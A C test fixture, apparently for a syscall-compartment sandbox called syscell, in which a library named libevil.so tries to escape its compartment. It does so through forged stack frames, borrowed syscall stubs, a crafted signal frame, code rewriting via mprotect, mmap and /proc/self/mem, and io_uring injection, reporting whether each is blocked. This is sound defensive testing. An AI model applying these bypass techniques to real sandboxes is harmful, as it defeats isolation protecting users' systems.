// libevil.so: an attacker inside a library. Its compartment may map and
// protect memory, open, read and write files, but may not make
// directories, execute programs or use io_uring (evil.toml); libgood.so,
// next to it, may. Each function tries, from libevil.so's own code, to
// make a directory (or start a program) with rights that are not its
// own, and returns the kernel's result as it is (-errno), or a result
// of its own below -1000 when the attack could not even be set up.
// docs/THREAT-MODEL.md says which attempts syscell stops and why.
#define _GNU_SOURCE
#include <dlfcn.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <linux/io_uring.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

#define SYS_MSEAL 462
#define PAGE 4096UL

// Code that makes mkdir(rdi, rsi) from wherever it is written:
// mov $83, %eax; syscall; ret.
static const unsigned char mkdir_code[] = {0xb8, 83, 0, 0, 0, 0x0f, 0x05, 0xc3};

// evil_site_call(a0, a1, a2, nr, site) jumps to a syscall instruction
// with nr in rax; the ret after it comes back to evil_site_call's caller.
//
// evil_forged_call(a0, a1, a2, stack, fn) calls fn(a0, a1, a2) on a stack
// whose words the caller wrote: the return addresses an unwinder reads.
// Where the last of them is evil_forged_back, execution comes back to
// evil_forged_call's caller with fn's result.
//
// evil_trap() saves the same registers, then executes ud2; a SIGILL
// handler may send the thread to evil_forged_back in the end.
__asm__(".text\n"
	".local evil_saved_rsp\n"
	".comm evil_saved_rsp, 8, 8\n"
	".globl evil_site_call\n.type evil_site_call, @function\n"
	"evil_site_call:\n"
	"\tmov %rcx, %rax\n"
	"\tjmp *%r8\n"
	".globl evil_forged_call\n.type evil_forged_call, @function\n"
	"evil_forged_call:\n"
	"\tpush %rbx\n\tpush %rbp\n\tpush %r12\n\tpush %r13\n\tpush %r14\n\tpush %r15\n"
	"\tmov %rsp, evil_saved_rsp(%rip)\n"
	"\tmov %rcx, %rsp\n"
	"\tjmp *%r8\n"
	".globl evil_trap\n.type evil_trap, @function\n"
	"evil_trap:\n"
	"\tpush %rbx\n\tpush %rbp\n\tpush %r12\n\tpush %r13\n\tpush %r14\n\tpush %r15\n"
	"\tmov %rsp, evil_saved_rsp(%rip)\n"
	"\tud2\n"
	".globl evil_forged_back\n.type evil_forged_back, @function\n"
	"evil_forged_back:\n"
	"\tmov evil_saved_rsp(%rip), %rsp\n"
	"\tpop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n"
	"\tret\n");

long evil_site_call(long a0, long a1, long a2, long nr, const void *site);
long evil_forged_call(long a0, long a1, long a2, uint64_t *stack, const void *fn);
long evil_trap(void);
void evil_forged_back(void);

// Where libc's own mkdir and execve are: a pointer taken in code is
// bound by the loader without the audit library, to libc itself.
static int (*const libc_mkdir)(const char *, mode_t) = mkdir;
static int (*const libc_execve)(const char *, char *const[], char *const[]) = execve;

// fake is a stack for forged frames; its top is 16-byte aligned less 8,
// as at a function's entry.
static uint64_t fake[4096] __attribute__((aligned(16)));

static uint64_t *fake_top(int words)
{
	return &fake[sizeof fake / sizeof *fake - 1 - words];
}

static void *lib_symbol(const char *name)
{
	void *p = dlsym(RTLD_DEFAULT, name);
	if (p == NULL) {
		fprintf(stderr, "libevil.so: no %s\n", name);
		exit(1);
	}
	return p;
}

// entry_of returns the ELF entry point of the object mapped at base.
static uintptr_t entry_of(uintptr_t base)
{
	return base + ((const ElfW(Ehdr) *)base)->e_entry;
}

// startup_entry is where a stack that the unwinder takes for start-up
// begins: the loader's entry point, or libc's.
static uintptr_t startup_entry(const char *which)
{
	if (strcmp(which, "loader") == 0)
		return entry_of(getauxval(AT_BASE));
	Dl_info info;
	if (dladdr((void *)libc_mkdir, &info) == 0)
		return 0;
	return entry_of((uintptr_t)info.dli_fbase);
}

// evil_forged_startup calls libc's mkdir(path) on a stack whose only
// frame returns into the function at the entry point of which ("loader",
// "libc" or "program"): a stack that begins there, as a starting image's
// does. (A return address is the instruction after a call: the one
// after the entry point will do.)
// The call never returns to its caller (the entry point runs after it):
// run it in a child.
long evil_forged_startup(const char *which, const char *path)
{
	uintptr_t entry = strcmp(which, "program") == 0 ? getauxval(AT_ENTRY) : startup_entry(which);
	if (entry == 0)
		return -1002;
	uint64_t *sp = fake_top(8);
	memset(sp, 0, 8 * sizeof *sp);
	sp[0] = entry + 1;
	return evil_forged_call((long)path, 0700, 0, sp, (const void *)libc_mkdir);
}

// evil_forged_startup_exec is evil_forged_startup with execve(argv).
long evil_forged_startup_exec(char *const argv[])
{
	uint64_t *sp = fake_top(8);
	memset(sp, 0, 8 * sizeof *sp);
	sp[0] = startup_entry("loader") + 1;
	extern char **environ;
	return evil_forged_call((long)argv[0], (long)argv, (long)environ, sp, (const void *)libc_execve);
}

// evil_forged_return calls libc's mkdir(path) on a stack whose return
// address lies in libgood.so's code (a bare ret there comes back here):
// an unwinder can only believe it.
long evil_forged_return(const char *path)
{
	uint64_t *sp = fake_top(2);
	sp[0] = (uint64_t)lib_symbol("good_ret");
	sp[1] = (uint64_t)evil_forged_back;
	long ret = evil_forged_call((long)path, 0700, 0, sp, (const void *)libc_mkdir);
	return ret < 0 ? -errno : ret;
}

// evil_deputy calls libgood.so's exported function, which makes the
// directory it is asked for.
long evil_deputy(const char *path)
{
	int (*good_mkdir)(const char *) = lib_symbol("good_mkdir");
	return good_mkdir(path) < 0 ? -errno : 0;
}

// A stream whose write function makes a directory by libc's mkdtemp,
// called through a pointer (callback_pointer) or through libevil.so's own
// binding: libgood.so's good_print writes to it, so the function runs
// inside libgood.so's call into libc.
static char *(*volatile mkdtemp_pointer)(char *) = mkdtemp;
static bool callback_pointer;
static char callback_template[4096];
static long callback_result;

static ssize_t evil_cookie_write(void *cookie, const char *buf, size_t n)
{
	(void)cookie;
	(void)buf;
	char *made = callback_pointer ? mkdtemp_pointer(callback_template) : mkdtemp(callback_template);
	callback_result = made != NULL ? 0 : -errno;
	return n;
}

// evil_callback has libgood.so write to that stream, and returns what
// the mkdtemp of DIR/MODE-XXXXXX in its write function returned.
long evil_callback(const char *path, bool pointer)
{
	snprintf(callback_template, sizeof callback_template, "%s-XXXXXX", path);
	callback_pointer = pointer;
	FILE *f = fopencookie(NULL, "w", (cookie_io_functions_t){.write = evil_cookie_write});
	int (*good_print)(FILE *, const char *) = lib_symbol("good_print");
	if (f == NULL || good_print(f, "x") != 0)
		return -EIO;
	fclose(f);
	return callback_result;
}

// syscall_site follows a stub's code to the syscall instruction it
// executes: the stubs move arguments, load the number and call or jump
// to the instruction.
static const unsigned char *syscall_site(const unsigned char *p)
{
	for (int i = 0; i < 16; i++) {
		if (p[0] == 0x0f && p[1] == 0x05)
			return p;
		if (p[0] == 0x49 && p[1] == 0x89 && p[2] == 0xca) /* mov %rcx, %r10 */
			p += 3;
		else if (p[0] == 0xb8) /* mov $imm32, %eax */
			p += 5;
		else if (p[0] == 0xe8 || p[0] == 0xe9) { /* call, jmp rel32 */
			int32_t rel;
			memcpy(&rel, p + 1, sizeof rel);
			p += 5 + rel;
		} else
			return NULL;
	}
	return NULL;
}

// good_site is the syscall instruction of libgood.so's stub of wrapper.
static const void *good_site(const char *wrapper)
{
	void *(*good_stub)(const char *) = lib_symbol("good_stub");
	const unsigned char *stub = good_stub(wrapper);
	return stub == NULL ? NULL : syscall_site(stub);
}

// evil_stub_number jumps to the syscall instruction of libgood.so's
// getpid stub with mkdir's number: a stub made for one call, used for
// another its compartment may make.
long evil_stub_number(const char *path)
{
	const void *site = good_site("getpid");
	if (site == NULL)
		return -1003;
	return evil_site_call((long)path, 0700, 0, SYS_mkdir, site);
}

// evil_stub_borrow calls libgood.so's own stub of mkdir: the call
// libgood.so makes, made by libevil.so.
long evil_stub_borrow(const char *path)
{
	const void *site = good_site("mkdir");
	if (site == NULL)
		return -1003;
	return evil_site_call((long)path, 0700, 0, SYS_mkdir, site);
}

// The registers the SIGILL handler gives the thread: a mkdir made at
// the syscall instruction of libgood.so's mkdir stub.
static const void *sig_site;
static const char *sig_path;

static void sigill(int sig, siginfo_t *info, void *context)
{
	(void)sig;
	(void)info;
	ucontext_t *uc = context;
	uint64_t *sp = fake_top(1);
	sp[0] = (uint64_t)evil_forged_back;
	uc->uc_mcontext.gregs[REG_RIP] = (greg_t)sig_site;
	uc->uc_mcontext.gregs[REG_RAX] = SYS_mkdir;
	uc->uc_mcontext.gregs[REG_RDI] = (greg_t)sig_path;
	uc->uc_mcontext.gregs[REG_RSI] = 0700;
	uc->uc_mcontext.gregs[REG_RSP] = (greg_t)sp;
}

// evil_sigreturn has the kernel load every register, the instruction
// pointer included, from a signal frame libevil.so wrote: the return from
// a handler of its own, whose frame sends the thread to libgood.so's
// mkdir.
long evil_sigreturn(const char *path)
{
	sig_site = good_site("mkdir");
	sig_path = path;
	if (sig_site == NULL)
		return -1003;
	struct sigaction sa = {.sa_sigaction = sigill, .sa_flags = SA_SIGINFO};
	if (sigaction(SIGILL, &sa, NULL) != 0)
		return -1004;
	return evil_trap();
}

// text_page is the page of libgood.so's code that holds good_getpid.
static uintptr_t text_page(void)
{
	return (uintptr_t)lib_symbol("good_getpid") & ~(PAGE - 1);
}

// call_rewritten calls good_getpid after mkdir_code was written over
// it: a mkdir from libgood.so's code.
static long call_rewritten(const char *path)
{
	long (*fn)(const char *, long) = lib_symbol("good_getpid");
	return fn(path, 0700);
}

// rewrite tries to make the page at page writable, or else to map
// writable memory over it; where either works, it writes mkdir_code at code and
// calls it. It reports each step as "WHAT-STEP RESULT ERRNO".
static void rewrite(const char *what, uintptr_t page, void *code, long (*call)(const char *), const char *path)
{
	char line[64];
	long prot = mprotect((void *)page, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC);
	snprintf(line, sizeof line, "%s-mprotect", what);
	printf("%s %d %s\n", line, prot == 0 ? 0 : -errno, prot == 0 ? "-" : strerrorname_np(errno));
	void *m = MAP_FAILED;
	if (prot != 0) {
		m = mmap((void *)page, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		snprintf(line, sizeof line, "%s-mmap", what);
		printf("%s %d %s\n", line, m == MAP_FAILED ? -errno : 0, m == MAP_FAILED ? strerrorname_np(errno) : "-");
	}
	if (prot == 0 || m != MAP_FAILED) {
		memcpy(code, mkdir_code, sizeof mkdir_code);
		snprintf(line, sizeof line, "%s-call", what);
		long ret = call(path);
		printf("%s %ld %s\n", line, ret, ret < 0 ? strerrorname_np(-ret) : "-");
	}
	fflush(stdout);
}

// evil_rewrite tries to rewrite libgood.so's code with its own mmap and
// mprotect.
void evil_rewrite(const char *path)
{
	rewrite("rewrite", text_page(), lib_symbol("good_getpid"), call_rewritten, path);
}

static long (*plug_fn)(const char *, long);

static long call_plug(const char *path)
{
	return plug_fn(path, 0700);
}

// evil_rewrite_dlopen loads file, a library whose compartment may make
// directories, and tries to rewrite its function fn.
void evil_rewrite_dlopen(const char *file, const char *fn, const char *path)
{
	void *h = dlopen(file, RTLD_NOW);
	plug_fn = h == NULL ? NULL : dlsym(h, fn);
	if (plug_fn == NULL) {
		printf("dlopen %s\n", dlerror());
		exit(1);
	}
	rewrite("rewrite-dlopen", (uintptr_t)plug_fn & ~(PAGE - 1), (void *)plug_fn, call_plug, path);
}

static uintptr_t reserved;

static long call_reserved(const char *path)
{
	return ((long (*)(const char *, long))reserved)(path, 0700);
}

// evil_rewrite_reserved, in an image an exec started, tries to put code
// where compartment slot's code lay in the first image, which the filter
// still gives that compartment's calls: the first range of slot's code
// that SYSCELL_CELL lists ("text SLOT START END;").
void evil_rewrite_reserved(int slot, const char *path)
{
	const char *cell = getenv("SYSCELL_CELL");
	char key[32];
	snprintf(key, sizeof key, "text %d ", slot);
	const char *at = cell == NULL ? NULL : strstr(cell, key);
	if (at == NULL) {
		printf("rewrite-reserved no range of slot %d in SYSCELL_CELL\n", slot);
		exit(1);
	}
	reserved = strtoul(at + strlen(key), NULL, 16);
	rewrite("rewrite-reserved", reserved, (void *)reserved, call_reserved, path);
}

// library_file finds the file libgood.so was loaded from, and the file
// offset of good_getpid in it.
static int library_file(const char **file, off_t *offset)
{
	Dl_info info;
	if (dladdr(lib_symbol("good_getpid"), &info) == 0)
		return -1;
	uintptr_t base = (uintptr_t)info.dli_fbase, vaddr = (uintptr_t)lib_symbol("good_getpid") - base;
	const ElfW(Ehdr) *eh = (const void *)base;
	const ElfW(Phdr) *ph = (const void *)(base + eh->e_phoff);
	for (int i = 0; i < eh->e_phnum; i++)
		if (ph[i].p_type == PT_LOAD && vaddr >= ph[i].p_vaddr && vaddr < ph[i].p_vaddr + ph[i].p_filesz) {
			*file = info.dli_fname;
			*offset = vaddr - ph[i].p_vaddr + ph[i].p_offset;
			return 0;
		}
	return -1;
}

// copy maps libgood.so's file, privately, at a new address, with prot.
static char *copy(int prot, off_t *offset, size_t *size)
{
	const char *file;
	int fd;
	struct stat st;
	if (library_file(&file, offset) != 0 || (fd = open(file, O_RDONLY)) < 0 || fstat(fd, &st) != 0)
		return NULL;
	*size = (st.st_size + PAGE - 1) & ~(PAGE - 1);
	char *c = mmap(NULL, *size, prot, MAP_PRIVATE, fd, 0);
	close(fd);
	return c == MAP_FAILED ? NULL : c;
}

// evil_copy maps a private copy of libgood.so's file, writes mkdir_code
// over good_getpid in it, and calls it: code in a mapping of libgood.so's
// file, which the loader never mapped. With seal, the copy is sealed
// first; with late, the copy is first mapped unwritten and a call of
// libevil.so's goes to the supervisor, which reads the mappings, before
// it is written.
long evil_copy(const char *path, int seal, int late)
{
	off_t off;
	size_t size;
	char *c = copy(late ? PROT_READ | PROT_EXEC : PROT_READ | PROT_WRITE, &off, &size);
	if (c == NULL)
		return -1005;
	if (late) {
		/* libc's getpid, whose caller only the supervisor can tell,
		   and which libevil.so may not make. */
		static pid_t (*volatile get)(void) = getpid;
		get();
		if (mprotect(c, size, PROT_READ | PROT_WRITE) != 0)
			return -1006;
	}
	memcpy(c + off, mkdir_code, sizeof mkdir_code);
	if (mprotect(c, size, PROT_READ | PROT_EXEC) != 0)
		return -1006;
	if (seal && syscall(SYS_MSEAL, c, size, 0) != 0)
		return -1007;
	return ((long (*)(const char *, long))(c + off))(path, 0700);
}

// evil_proc_mem opens this process's mem file for writing by every name
// it has (/proc/self/mem, /proc/thread-self/mem, /proc/PID/mem, and
// /proc/self/fd/N after opening it for reading), reporting each open as
// "procmem-NAME"; through the first that opens, it writes mkdir_code over
// good_getpid, which the kernel may let through the seal on libgood.so's
// code, and calls it.
void evil_proc_mem(const char *path)
{
	char pid[32] = "", by_pid[64], by_fd[64];
	readlink("/proc/self", pid, sizeof pid - 1);
	snprintf(by_pid, sizeof by_pid, "/proc/%s/mem", pid);
	int ro = open("/proc/self/mem", O_RDONLY);
	snprintf(by_fd, sizeof by_fd, "/proc/self/fd/%d", ro);
	const char *names[][2] = {{"open", "/proc/self/mem"}, {"thread", "/proc/thread-self/mem"},
				  {"pid", by_pid}, {"reopen", by_fd}};
	int fd = -1;
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		int f = open(names[i][1], O_RDWR);
		printf("procmem-%s %d %s\n", names[i][0], f < 0 ? -errno : 0, f < 0 ? strerrorname_np(errno) : "-");
		if (fd < 0)
			fd = f;
		else if (f >= 0)
			close(f);
	}
	if (fd >= 0) {
		ssize_t n = pwrite(fd, mkdir_code, sizeof mkdir_code, (off_t)lib_symbol("good_getpid"));
		printf("procmem-write %zd %s\n", n < 0 ? -errno : n, n < 0 ? strerrorname_np(errno) : "-");
		if (n == sizeof mkdir_code) {
			long ret = call_rewritten(path);
			printf("procmem-call %ld %s\n", ret, ret < 0 ? strerrorname_np(-ret) : "-");
		}
	}
	fflush(stdout);
}

// evil_uring_setup sets up an io_uring of libevil.so's own.
long evil_uring_setup(void)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	long fd = syscall(SYS_io_uring_setup, 4, &p);
	return fd < 0 ? -errno : 0;
}

// evil_uring_mkdirat writes a mkdirat of path into libgood.so's ring,
// whose own submission then carries it.
void evil_uring_mkdirat(const char *path)
{
	struct io_uring_sqe *(*good_ring_sqe)(void) = lib_symbol("good_ring_sqe");
	struct io_uring_sqe *sqe = good_ring_sqe();
	memset(sqe, 0, sizeof *sqe);
	sqe->opcode = IORING_OP_MKDIRAT;
	sqe->fd = AT_FDCWD;
	sqe->addr = (uint64_t)path;
	sqe->len = 0700;
}

// evil_exec runs argv in this process.
int evil_exec(char *const argv[])
{
	execv(argv[0], argv);
	return -1;
}
